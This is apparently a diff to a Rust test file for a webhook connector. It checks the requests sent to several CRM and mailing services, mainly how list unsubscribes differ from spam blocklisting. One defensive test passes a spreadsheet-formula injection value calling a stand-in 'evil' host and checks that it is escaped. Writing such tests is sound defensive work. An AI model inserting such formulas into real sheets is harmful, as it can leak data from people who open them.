@@ -10,6 +10,9 @@ pub const ENV: &[(&str, &str)] = &[
     ("LEARNYBOX_SECRET_KEY", SECRET),
     ("HUBSPOT_ACCESS_TOKEN", "pat-eu1-hubspot-secret"),
     ("BREVO_API_KEY", "xkeysib-brevo-secret"),
+    ("BREVO_LIST_ID", "7"),
+    ("HUBSPOT_SUBSCRIPTION_ID", "7898721"),
+    ("SALESFORCE_ACCOUNT_ID", "001000000000001AAA"),
     ("ACTIVECAMPAIGN_BASE_URL", "https://acme.api-us1.com"),
     ("ACTIVECAMPAIGN_API_TOKEN", "ac-secret"),
     ("ACTIVECAMPAIGN_LIST_ID", "3"),
@@ -21,6 +24,7 @@ pub const ENV: &[(&str, &str)] = &[
     ("SALESFORCE_CLIENT_SECRET", "sf-secret"),
     ("PIPEDRIVE_API_TOKEN", "pd-secret"),
     ("PIPEDRIVE_TRANSACTION_FIELD", "8f4e1c2b9a7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f"),
+    ("PIPEDRIVE_UNSUBSCRIBED_FIELD", "1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b"),
     ("SYSTEMEIO_API_KEY", "sy-secret"),
     ("SYSTEMEIO_UNSUBSCRIBED_TAG_ID", "99"),
     ("ZAPIER_WEBHOOK_URL", "https://hooks.zapier.com/hooks/catch/123/abc/"),
@@ -142,14 +146,22 @@ fn hubspot_upserts_contacts_by_email_and_sales_as_deals_keyed_on_the_transaction
         step(&sale, "associate")["url"],
         "https://api.hubapi.com/crm/objects/2026-09/deals/77/associations/default/contacts/901"
     );
+    // A list unsubscribe leaves one subscription type; spam leaves all e-mail.
     let mut unsub = contact();
     unsub["event"] = "contact.unsubscribed".into();
     let u = render("hubspot", "hubspot-unsubscribes", &unsub, None);
+    let one = step(&u, "unsubscribe_one");
+    assert_eq!(one["url"], "https://api.hubapi.com/communication-preferences/2026-09/statuses/jj%40example.org");
+    assert_eq!(one["body"], json!({"channel": "EMAIL", "statusState": "UNSUBSCRIBED", "subscriptionId": 7898721}));
+    assert_eq!((one["sent"].as_bool(), step(&u, "unsubscribe_all")["sent"].as_bool()), (Some(true), Some(false)));
+    unsub["event"] = "contact.marked_as_spam".into();
+    let all = render("hubspot", "hubspot-unsubscribes", &unsub, None);
+    let all = step(&all, "unsubscribe_all");
     assert_eq!(
-        u["url"],
+        all["url"],
         "https://api.hubapi.com/communication-preferences/2026-09/statuses/jj%40example.org/unsubscribe-all?channel=EMAIL"
     );
-    assert_eq!(u["body"], Value::Null);
+    assert_eq!((all["sent"].as_bool(), &all["body"]), (Some(true), &Value::Null));
 }
 
 #[test]
@@ -159,11 +171,22 @@ fn brevo_creates_or_updates_the_contact_in_a_list_and_blocklists_unsubscribes() 
     assert_eq!(r["headers"]["api-key"], "***");
     assert_eq!(r["body"]["email"], "zoe.lefevre@example.com");
     assert_eq!(r["body"]["attributes"]["FIRSTNAME"], "Zoë \"Z\"");
-    assert_eq!((r["body"]["updateEnabled"].as_bool(), &r["body"]["listIds"]), (Some(true), &json!([2])));
+    assert_eq!(r["body"]["updateEnabled"].as_bool(), Some(true));
+    assert!(r["body"].get("listIds").is_none(), "a buyer is not put on the marketing list: {}", r["body"]);
+    let c = render("brevo", "brevo-contacts", &contact(), None);
+    assert_eq!(c["body"]["listIds"], json!([7]), "a subscriber joins BREVO_LIST_ID");
     let mut unsub = contact();
+    unsub["event"] = "contact.unsubscribed".into();
+    let u = render("brevo", "brevo-unsubscribes", &unsub, None);
+    let leave = step(&u, "leave_list");
+    assert_eq!(leave["url"], "https://api.brevo.com/v3/contacts/jj%40example.org?identifierType=email_id");
+    assert_eq!((leave["method"].as_str(), &leave["body"]), (Some("PUT"), &json!({"unlinkListIds": [7]})));
+    assert_eq!(step(&u, "blocklist")["sent"], false, "a list unsubscribe is not a blocklisting");
     unsub["event"] = "contact.marked_as_spam".into();
     let u = render("brevo", "brevo-unsubscribes", &unsub, None);
-    assert_eq!(u["body"], json!({"email": "jj@example.org", "emailBlacklisted": true, "updateEnabled": true}));
+    assert_eq!(step(&u, "leave_list")["sent"], false);
+    let block = step(&u, "blocklist");
+    assert_eq!(block["body"], json!({"email": "jj@example.org", "emailBlacklisted": true, "updateEnabled": true}));
 }
 
 #[test]
@@ -192,9 +215,14 @@ fn mailchimp_puts_the_member_at_the_md5_of_its_lowercase_email_then_tags_it() {
         hex::encode(Md5::digest(b"zoe.lefevre@example.com"))
     };
     assert_eq!(member["method"], "PUT");
-    assert_eq!(member["url"], format!("https://us21.api.mailchimp.com/3.0/lists/a1b2c3/members/{expected_hash}"));
+    assert_eq!(
+        member["url"],
+        format!("https://us21.api.mailchimp.com/3.0/lists/a1b2c3/members/{expected_hash}?skip_merge_validation=true")
+    );
     assert!(member["headers"]["Authorization"] == "***", "basic auth, masked");
-    assert_eq!(member["body"]["status_if_new"], "subscribed");
+    assert_eq!(member["body"]["status_if_new"], "transactional", "a new buyer gets no marketing");
+    let sub = step(&render("mailchimp", "mailchimp-members", &contact(), None), "member").clone();
+    assert_eq!(sub["body"]["status_if_new"], "subscribed");
     let tags = step(&r, "tags");
     assert_eq!(
         tags["body"]["tags"],
@@ -208,7 +236,13 @@ fn mailchimp_puts_the_member_at_the_md5_of_its_lowercase_email_then_tags_it() {
     let mut unsub = contact();
     unsub["event"] = "contact.unsubscribed".into();
     let u = render("mailchimp", "mailchimp-unsubscribes", &unsub, None);
-    assert_eq!((u["method"].as_str(), &u["body"]), (Some("PATCH"), &json!({"status": "unsubscribed"})));
+    assert_eq!(
+        (u["method"].as_str(), &u["body"]),
+        (
+            Some("PUT"),
+            &json!({"email_address": "jj@example.org", "status_if_new": "unsubscribed", "status": "unsubscribed"})
+        )
+    );
 }
 
 #[test]
@@ -219,7 +253,8 @@ fn salesforce_updates_without_placeholders_and_creates_only_what_it_did_not_find
     assert_eq!(update["method"], "PATCH");
     assert_eq!(
         update["url"],
-        "https://acme.my.salesforce.com/services/data/v68.0/sobjects/Contact/Learnybox_Email__c/jj%40example.org?updateOnly=true"
+        "https://acme.my.salesforce.com/services/data/v68.0/sobjects/Contact/Learnybox_Email__c/jj@example_org?updateOnly=true",
+        "the key's domain has '_' for '.', Salesforce's workaround for TLDs read as formats"
     );
     assert_eq!(update["headers"]["Authorization"], "***");
     assert_eq!(update["body"], json!({"FirstName": "Jean", "LastName": "O'Connor", "Email": "jj@example.org"}));
@@ -233,6 +268,7 @@ fn salesforce_updates_without_placeholders_and_creates_only_what_it_did_not_find
     assert_eq!(create["sent"], true);
     assert_eq!(create["body"]["LastName"], "(Learnybox)", "the placeholder only where Salesforce requires it");
     assert_eq!(create["body"]["LeadSource"], "Learnybox");
+    assert_eq!(create["body"]["AccountId"], "001000000000001AAA");
     let answers = json!({"contact_update": {"status": 200, "body": {"id": "003A"}},
                          "opportunity_update": {"status": 404, "body": [{"errorCode": "NOT_FOUND"}]}});
     let s = render("salesforce", "salesforce-sales", &sale(), Some(answers));
@@ -278,8 +314,20 @@ fn pipedrive_uses_api_v2_and_keys_deals_on_the_transaction_field() {
     let update = step(&r, "deal_update");
     assert_eq!(update["url"], "https://api.pipedrive.com/api/v2/deals/9");
     assert_eq!(update["body"]["status"], "lost");
+    assert!(update["body"].get("value").is_none(), "a refund keeps the sale's value: {}", update["body"]);
     let mut unsub = contact();
     unsub["event"] = "contact.unsubscribed".into();
+    let u = render(
+        "pipedrive",
+        "pipedrive",
+        &unsub,
+        Some(json!({"search": {"status": 200, "body": {"data": {"items": [{"item": {"id": 42}}]}}}})),
+    );
+    let body = &step(&u, "update")["body"];
+    assert!(body.get("marketing_status").is_none(), "a list unsubscribe leaves the account-wide status: {body}");
+    let recorded = body["custom_fields"]["1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b"].as_str().unwrap();
+    assert!(recorded.starts_with("Learnybox: unsubscribed from a list on "), "{body}");
+    unsub["event"] = "contact.marked_as_spam".into();
     let u = render(
         "pipedrive",
         "pipedrive",
@@ -353,8 +401,18 @@ fn google_sheets_rows_never_carry_a_formula() {
     let mut hostile = sale();
     hostile["data"]["contact"]["prenom"] = json!("=IMPORTXML(\"https://evil\")");
     hostile["data"]["contact"]["telephone"] = json!("+33 6 12 34 56 78");
-    let g = render("google-sheets", "google-sheets", &hostile, None);
+    let rendered = render("google-sheets", "google-sheets", &hostile, None);
+    let g = step(&rendered, "row");
     assert_eq!(g["url"], "https://script.google.com/macros/s/abc/exec");
+    let confirm = step(&rendered, "confirm");
+    assert_eq!((confirm["method"].as_str(), confirm["waits_for_answers"].as_bool()), (Some("GET"), Some(true)));
+    let redirected =
+        json!({"row": {"status": 302, "body": "", "location_path": "macros/echo?user_content_key=k1&lib=L"}});
+    let rendered = render("google-sheets", "google-sheets", &hostile, Some(redirected));
+    assert_eq!(
+        step(&rendered, "confirm")["url"],
+        "https://script.googleusercontent.com/macros/echo?user_content_key=k1&lib=L"
+    );
     let row = &g["body"]["row"];
     assert_eq!(row["first_name"], "'=IMPORTXML(\"https://evil\")");
     assert_eq!(row["phone"], "'+33 6 12 34 56 78");
